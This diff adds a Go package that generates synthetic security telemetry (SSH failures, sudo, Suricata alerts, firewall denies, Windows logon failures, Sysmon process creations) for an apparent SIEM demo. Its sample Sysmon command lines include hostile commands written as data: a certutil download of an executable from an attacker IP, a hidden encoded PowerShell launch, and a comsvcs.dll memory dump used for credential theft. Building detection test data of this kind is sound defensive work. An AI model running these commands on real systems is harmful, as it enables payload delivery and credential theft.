@@ -1,0 +1,158 @@
+// Package demo generates a feed of realistic security telemetry for the
+// demo registry (configs/registry.yaml): sshd and sudo syslog from Linux
+// servers, firewall denies, IDS alerts in CEF, Windows logon failures and
+// process creations, from hosts of several organisations in several sectors
+// and from a few unknown assets. `kuzet run` sends it to its collectors over
+// syslog TCP and HTTP, so the demo exercises the same path as real devices.
+package demo
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"time"
+)
+
+// Asset is a host the feed impersonates.
+type Asset struct {
+	Host string
+	IP   string
+	// OISC is the collector's OISC the host reports to.
+	OISC string
+}
+
+// Assets of the demo registry, by OISC; the last of each list is unknown
+// to the registry.
+var Assets = []Asset{
+	{"ems-01", "10.10.1.5", "oisc-almaty"},
+	{"rtu-gw.scada.altyn-grid.example", "10.10.7.20", "oisc-almaty"},
+	{"boiler-hmi-1", "172.16.3.10", "oisc-almaty"},
+	{"pump-7.telemetry.steppe-gas.example", "10.30.2.7", "oisc-almaty"},
+	{"laptop-guest", "192.168.77.14", "oisc-almaty"},
+	{"cbs-db-01", "10.10.4.21", "oisc-astana"},
+	{"egov-web-01", "10.50.0.11", "oisc-astana"},
+	{"wtp-plc-gw", "10.60.1.2", "oisc-astana"},
+	{"ilc-3.signal.rail.example", "10.70.9.3", "oisc-astana"},
+	{"kiosk-unknown", "192.168.200.9", "oisc-astana"},
+}
+
+var attackers = []string{"185.220.101.4", "45.155.205.233", "91.240.118.172", "194.26.29.120", "103.145.13.7"}
+var users = []string{"root", "admin", "operator", "scada", "oracle", "test", "backup", "i.petrov"}
+
+// Record is one raw record and the kind of input it goes to.
+type Record struct {
+	// Input is "syslog" (a syslog TCP input with the syslog pipeline) or
+	// "winevent" (an HTTP input with the winevent pipeline).
+	Input string
+	OISC  string
+	Data  []byte
+}
+
+// Generator produces records. Not safe for concurrent use.
+type Generator struct {
+	rnd *rand.Rand
+	now func() time.Time
+}
+
+// NewGenerator returns a generator with a fixed seed, so feeds repeat.
+func NewGenerator(seed uint64, now func() time.Time) *Generator {
+	if now == nil {
+		now = time.Now
+	}
+	return &Generator{rnd: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), now: now}
+}
+
+func (g *Generator) pick(s []string) string { return s[g.rnd.IntN(len(s))] }
+
+// Next returns the next record.
+func (g *Generator) Next() Record {
+	a := Assets[g.rnd.IntN(len(Assets))]
+	now := g.now()
+	attacker := g.pick(attackers)
+	user := g.pick(users)
+	port := 40000 + g.rnd.IntN(20000)
+	pid := 1000 + g.rnd.IntN(30000)
+	switch g.rnd.IntN(7) {
+	case 0: // RFC 5424 sshd failure
+		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<38>1 %s %s sshd %d - - Failed password for invalid user %s from %s port %d ssh2",
+			now.UTC().Format(time.RFC3339Nano), a.Host, pid, user, attacker, port)}
+	case 1: // RFC 3164 sshd accepted
+		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<86>%s %s sshd[%d]: Accepted publickey for %s from 10.20.0.%d port %d ssh2",
+			now.In(time.FixedZone("ALMT", 5*3600)).Format(time.Stamp), a.Host, pid, user, 2+g.rnd.IntN(200), port)}
+	case 2: // RFC 3164 sudo
+		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<85>%s %s sudo: %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd",
+			now.In(time.FixedZone("ALMT", 5*3600)).Format(time.Stamp), a.Host, user, user)}
+	case 3: // CEF IDS alert inside syslog
+		sig := []string{"ET SCAN Nmap Scripting Engine User-Agent Detected", "ET EXPLOIT Possible Modbus Write Single Register",
+			"ET POLICY Outbound RDP Connection", "GPL ATTACK_RESPONSE id check returned root"}[g.rnd.IntN(4)]
+		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<132>%s ids-01 CEF:0|OISF|Suricata|7.0.3|%d|%s|%d|src=%s spt=%d dst=%s dpt=%d proto=TCP act=alert",
+			now.In(time.FixedZone("ALMT", 5*3600)).Format(time.Stamp), 2000000+g.rnd.IntN(10000), sig, 3+g.rnd.IntN(7),
+			attacker, port, a.IP, []int{22, 80, 443, 502, 3389}[g.rnd.IntN(5)])}
+	case 4: // firewall deny, RFC 5424 with structured data
+		return Record{"syslog", a.OISC, fmt.Appendf(nil, `<36>1 %s fw-edge-1 filterlog - FW_DENY [fw@32473 action="deny" src="%s" dst="%s" dport="%d" proto="tcp"] deny tcp %s:%d -> %s:%d`,
+			now.UTC().Format(time.RFC3339), attacker, a.IP, 23, attacker, port, a.IP, 23)}
+	case 5: // Windows failed logon (4625), evtx_dump shape
+		return Record{"winevent", a.OISC, winEvent(now, a.Host, 4625, "Security", "Microsoft-Windows-Security-Auditing", map[string]any{
+			"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": 3, "Status": "0xc000006d", "SubStatus": "0xc0000064",
+			"IpAddress": attacker, "IpPort": fmt.Sprint(port), "WorkstationName": "-", "LogonProcessName": "NtLmSsp",
+		})}
+	default: // Sysmon process creation with a suspicious command line
+		cmd := []string{`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`,
+			`cmd.exe /c whoami /all`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`,
+			`certutil.exe -urlcache -split -f http://` + attacker + `/a.exe C:\Users\Public\a.exe`}[g.rnd.IntN(4)]
+		image := `C:\Windows\System32\` + cmd[:len(cmdName(cmd))]
+		return Record{"winevent", a.OISC, winEvent(now, a.Host, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", map[string]any{
+			"UtcTime": now.UTC().Format("2006-01-02 15:04:05.000"), "ProcessId": pid, "Image": image, "CommandLine": cmd,
+			"User": `CORP\` + user, "ParentImage": `C:\Windows\explorer.exe`, "IntegrityLevel": "High", "LogonId": "0x3e7",
+		})}
+	}
+}
+
+func cmdName(cmd string) string {
+	for i, c := range cmd {
+		if c == ' ' {
+			return cmd[:i]
+		}
+	}
+	return cmd
+}
+
+// winEvent renders an event in evtx_dump's JSON shape, one line.
+func winEvent(now time.Time, host string, id int, channel, provider string, data map[string]any) []byte {
+	doc := map[string]any{"Event": map[string]any{
+		"#attributes": map[string]any{"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
+		"System": map[string]any{
+			"Provider":    map[string]any{"#attributes": map[string]any{"Name": provider}},
+			"EventID":     id,
+			"Channel":     channel,
+			"Computer":    host,
+			"TimeCreated": map[string]any{"#attributes": map[string]any{"SystemTime": now.UTC().Format("2006-01-02T15:04:05.000000Z")}},
+		},
+		"EventData": data,
+	}}
+	b, _ := json.Marshal(doc)
+	return b
+}
+
+// Run calls send with records at rate per second until ctx ends.
+func (g *Generator) Run(ctx context.Context, rate int, send func(Record) error) error {
+	if rate <= 0 {
+		rate = 20
+	}
+	tick := time.NewTicker(time.Second / time.Duration(min(rate, 1000)))
+	defer tick.Stop()
+	per := max(1, rate/1000)
+	for {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-tick.C:
+			for i := 0; i < per; i++ {
+				if err := send(g.Next()); err != nil {
+					return err
+				}
+			}
+		}
+	}
+}
